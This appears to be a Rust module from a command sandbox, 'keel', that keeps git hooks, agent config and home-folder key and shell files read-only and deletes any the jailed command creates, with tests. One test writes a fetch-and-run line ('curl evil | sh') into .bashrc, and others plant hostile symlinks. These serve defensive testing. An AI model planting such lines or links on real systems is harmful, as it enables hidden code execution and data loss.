//! The entries of a workspace a command must never change, because what
//! they hold runs later outside the jail: `.git` (hooks, `core.fsmonitor`,
//! aliases run by the user's git), `.keel` (rules, hooks, config of the
//! next session), `.claude` (Claude Code hooks keel can import),
//! `.mcp.json` (servers the next session starts), editor tasks and the
//! like: [`names`], which are `policy::paths::RUNS_PROGRAMS` (one list for
//! the tools' protected paths and the jail's read-only entries).
//!
//! - Existing ones (and the nested `.git` folders [`nested_git_dirs`]
//!   finds when the session starts) are read-only mounts in the jail.
//! - A recognised git command (`super::git_write`) may write `.git`,
//!   except [`GIT_DIR_GUARDED`] (its config, hooks, `info/`, …), bound
//!   read-only inside it.
//! - One the command *creates* cannot be stopped by a mount (a mount needs
//!   an existing path, and a writable folder accepts any new name), so
//!   [`Sweep`] removes it as soon as the command has ended (the jail's PID
//!   namespace guarantees nothing of the command is left to recreate it)
//!   and says so in the output. Placeholder folders created ahead of time
//!   were the alternative; they litter every workspace and race with other
//!   keel processes, so the sweep was chosen.

use std::path::{Path, PathBuf};

/// The protected names at each workspace root (folders and files).
pub fn names() -> impl Iterator<Item = &'static str> + Clone {
    crate::policy::paths::RUNS_PROGRAMS.iter().map(|entry| entry.name)
}

/// The protected names in words, for the jail's messages.
pub fn names_in_words() -> String {
    names().collect::<Vec<_>>().join(", ")
}

/// What stays read-only in a home folder that lies in a writable root
/// and holds the workspace (CI containers, a workspace under a temp
/// home), beside the shell start-up files (`policy::paths::RC_FILES`):
/// git's config and what holds keys. The home itself cannot be bound
/// read-only there (it would cover the workspace), so these are, one by
/// one; existing ones only (a bind needs a path: one the command creates
/// is removed after it by [`Sweep`]).
pub const HOME_GUARDED: [&str; 7] = [
    ".gitconfig",
    ".config/git",
    ".ssh",
    ".gnupg",
    ".config/fish",
    ".pam_environment",
    ".xprofile",
];

/// What stays read-only inside a workspace's `.git` when a recognised
/// git command may write it (`super::git_write`): what makes git run
/// programs or read its configuration (and hooks) from elsewhere —
/// config files, hooks, `info/` (attributes, excludes, sparse checkout,
/// grafts), submodules' and worktrees' git folders, `commondir` (a
/// common folder elsewhere: its config and hooks), legacy remotes.
pub const GIT_DIR_GUARDED: [&str; 9] = [
    "config",
    "config.worktree",
    "hooks",
    "info",
    "modules",
    "worktrees",
    "commondir",
    "remotes",
    "branches",
];

/// The protected paths of `workspace_roots`: their protected names, and
/// with `git_write` the guarded names inside their `.git` folders.
pub fn guarded_paths(workspace_roots: &[PathBuf], git_write: bool) -> Vec<PathBuf> {
    let inside_git = workspace_roots
        .iter()
        .filter(|_| git_write)
        .flat_map(|root| GIT_DIR_GUARDED.map(|name| root.join(".git").join(name)));
    workspace_roots
        .iter()
        .flat_map(|root| names().map(|name| root.join(name)))
        .chain(inside_git)
        .collect()
}

/// Folders scanned at most when looking for nested `.git` folders (a
/// session start on a huge tree stays fast; deeper ones stay writable).
pub const NESTED_SCAN_LIMIT: usize = 20_000;
/// Folders that hold dependencies or build output, never nested repos
/// worth the scan time.
const SKIPPED: [&str; 4] = ["node_modules", "target", ".venv", "__pycache__"];

/// The protected paths missing before a command: the workspace's
/// protected names ([`guarded_paths`]) and the read-only paths outside it
/// (`Confinement::read_only`: keel's home, a home folder's start-up files,
/// git config and key folders, nested `.git` folders), which a mount can
/// keep only once they exist.
#[derive(Debug, Clone, Default)]
pub struct Sweep {
    absent: Vec<Absent>,
}

/// A protected path absent before the command, and the deepest of its
/// ancestors that existed then. Everything below that anchor was made by
/// the command, so the walk after it trusts nothing there: a symlink the
/// command put on the way (`~/.config -> ~/project`, to have keel delete
/// `~/project/git`) is itself what gets removed, never followed.
#[derive(Debug, Clone)]
struct Absent {
    path: PathBuf,
    anchor: PathBuf,
    /// The anchor's device and inode then: a swapped anchor is not walked.
    anchor_id: (u64, u64),
    in_workspace: bool,
}

impl Sweep {
    /// Notes which of the workspace's protected `paths` and of the
    /// read-only paths `outside` do not exist yet.
    pub fn before(paths: Vec<PathBuf>, outside: &[PathBuf]) -> Self {
        let workspace = paths.into_iter().map(|path| (path, true));
        let outside = outside.iter().map(|path| (path.clone(), false));
        let absent =
            workspace.chain(outside).filter_map(|(path, in_workspace)| absent(path, in_workspace));
        Self { absent: absent.collect() }
    }

    /// Removes every protected path the command created (a symlink is
    /// removed, never followed, wherever it stands on the way) and returns
    /// one line per removal for the command's output.
    pub fn after(&self) -> Vec<String> {
        self.absent.iter().filter_map(remove_created).collect()
    }
}

fn absent(path: PathBuf, in_workspace: bool) -> Option<Absent> {
    if std::fs::symlink_metadata(&path).is_ok() {
        return None;
    }
    let anchor = path.ancestors().skip(1).find(|dir| std::fs::symlink_metadata(dir).is_ok())?;
    let anchor_id = file_id(anchor)?;
    Some(Absent { anchor: anchor.to_path_buf(), path, anchor_id, in_workspace })
}

fn file_id(path: &Path) -> Option<(u64, u64)> {
    use std::os::unix::fs::MetadataExt;
    std::fs::symlink_metadata(path).ok().map(|meta| (meta.dev(), meta.ino()))
}

/// What the command made of `absent.path`, removed: the path itself, or
/// the first symlink the command put on the way to it.
fn remove_created(absent: &Absent) -> Option<String> {
    let below = absent.path.strip_prefix(&absent.anchor).ok()?;
    let mut current = absent.anchor.clone();
    let mut components = below.components().peekable();
    while let Some(component) = components.next() {
        current.push(component);
        let meta = std::fs::symlink_metadata(&current).ok()?;
        let last = components.peek().is_none();
        if !(last || meta.file_type().is_symlink() || meta.is_dir()) {
            return None;
        }
        if last || meta.file_type().is_symlink() {
            if file_id(&absent.anchor) != Some(absent.anchor_id) {
                return Some(format!(
                    "keel: WARNING: the command replaced `{}` and created `{}` in it; keel did not \
                     remove it (it no longer knows where that leads): check it before using it",
                    absent.anchor.display(),
                    current.display()
                ));
            }
            let removed = if meta.is_dir() {
                std::fs::remove_dir_all(&current)
            } else {
                std::fs::remove_file(&current)
            };
            return Some(removal_line(absent, &current, removed));
        }
    }
    None
}

fn removal_line(absent: &Absent, removed_path: &Path, removed: std::io::Result<()>) -> String {
    if let Err(error) = removed {
        return format!(
            "keel: WARNING: the command created `{}` and it could not be removed: {error}",
            removed_path.display()
        );
    }
    if !absent.in_workspace {
        return format!(
            "keel: removed `{}` created by the command: `{}` is read-only in the sandbox (keel's \
             own state, or a file of the home folder that runs programs or holds keys)",
            removed_path.display(),
            absent.path.display()
        );
    }
    let path = &absent.path;
    let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
    let in_git = path.parent().and_then(Path::file_name).is_some_and(|parent| parent == ".git");
    let name = if in_git { format!(".git/{name}") } else { name };
    format!(
        "keel: removed `{name}` created by the command: {} (.git's config and hooks even for git) are read-only in the sandbox (what they hold runs outside it)",
        names_in_words()
    )
}

/// `.git` folders (or files, as in worktrees and submodules) below
/// `root`, not counting `root/.git`; symlinks are not followed.
pub fn nested_git_dirs(root: &Path) -> Vec<PathBuf> {
    let mut budget = NESTED_SCAN_LIMIT;
    let mut found = git_dirs_within(root, &mut budget);
    let own = root.join(".git");
    found.retain(|path| *path != own);
    found.sort();
    found
}

/// Whether the search leaves a folder of this name alone (dependencies
/// or build output, never nested repositories worth the time).
pub fn is_skipped(name: &std::ffi::OsStr) -> bool {
    SKIPPED.iter().any(|skip| name == *skip)
}

/// `.git` folders or files in `folder` and below it (folders named by
/// [`is_skipped`] aside), reading at most `budget` folders and taking
/// what it read from `budget`; symlinks are not followed.
pub fn git_dirs_within(folder: &Path, budget: &mut usize) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut pending = vec![folder.to_owned()];
    while let Some(dir) = pending.pop() {
        let Some(left) = budget.checked_sub(1) else { break };
        *budget = left;
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        for entry in entries.filter_map(Result::ok) {
            let name = entry.file_name();
            let Ok(kind) = entry.file_type() else { continue };
            if name == ".git" {
                found.push(entry.path());
            } else if kind.is_dir() && !is_skipped(&name) {
                pending.push(entry.path());
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn created_names_are_removed_and_reported() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join(".git")).unwrap();
        let sweep = Sweep::before(guarded_paths(&[dir.path().to_owned()], false), &[]);
        std::fs::create_dir_all(dir.path().join(".keel/rules")).unwrap();
        std::os::unix::fs::symlink("/etc", dir.path().join(".claude")).unwrap();
        let lines = sweep.after();
        assert_eq!(lines.len(), 2, "{lines:?}");
        assert!(lines[0].contains("removed `.keel`"), "{lines:?}");
        assert!(!dir.path().join(".keel").exists());
        assert!(std::fs::symlink_metadata(dir.path().join(".claude")).is_err());
        assert!(Path::new("/etc/passwd").exists(), "the symlink was not followed");
        assert!(dir.path().join(".git").is_dir(), "an existing name is left alone");
    }

    #[test]
    fn a_home_file_the_command_creates_is_removed_and_named() {
        let home = tempfile::tempdir().unwrap();
        let outside = [home.path().join(".bashrc"), home.path().join(".config/git")];
        let sweep = Sweep::before(Vec::new(), &outside);
        std::fs::write(home.path().join(".bashrc"), "curl evil | sh").unwrap();
        std::fs::create_dir_all(home.path().join(".config/git")).unwrap();
        std::fs::write(home.path().join(".config/git/config"), "[core]\n").unwrap();
        std::fs::write(home.path().join(".config/other"), "kept").unwrap();
        let lines = sweep.after();
        assert_eq!(lines.len(), 2, "{lines:?}");
        assert!(lines[0].contains(".bashrc") && lines[0].contains("read-only"), "{lines:?}");
        assert!(!home.path().join(".bashrc").exists());
        assert!(!home.path().join(".config/git").exists());
        assert!(home.path().join(".config/other").exists(), "only the protected path goes");
    }

    #[test]
    fn a_symlink_the_command_puts_on_the_way_is_removed_not_followed() {
        let home = tempfile::tempdir().unwrap();
        let precious = tempfile::tempdir().unwrap();
        std::fs::create_dir(precious.path().join("git")).unwrap();
        std::fs::write(precious.path().join("git/work"), "a day of work").unwrap();
        let sweep = Sweep::before(Vec::new(), &[home.path().join(".config/git")]);
        std::os::unix::fs::symlink(precious.path(), home.path().join(".config")).unwrap();
        let lines = sweep.after();
        assert_eq!(lines.len(), 1, "{lines:?}");
        assert!(lines[0].contains(".config"), "{lines:?}");
        assert!(std::fs::symlink_metadata(home.path().join(".config")).is_err(), "link removed");
        assert!(precious.path().join("git/work").exists(), "nothing through the link deleted");
    }

    #[test]
    fn nested_git_folders_are_found_outside_dependency_folders() {
        let dir = tempfile::tempdir().unwrap();
        for path in [".git", "vendor/lib/.git", "node_modules/x/.git", "sub/deeper/.git"] {
            std::fs::create_dir_all(dir.path().join(path)).unwrap();
        }
        std::fs::write(dir.path().join("module/.git"), "gitdir: ../.git/modules/m").unwrap_or_else(
            |_| {
                std::fs::create_dir_all(dir.path().join("module")).unwrap();
                std::fs::write(dir.path().join("module/.git"), "gitdir: x").unwrap();
            },
        );
        assert_eq!(
            nested_git_dirs(dir.path()),
            ["module/.git", "sub/deeper/.git", "vendor/lib/.git"].map(|p| dir.path().join(p))
        );
    }
}
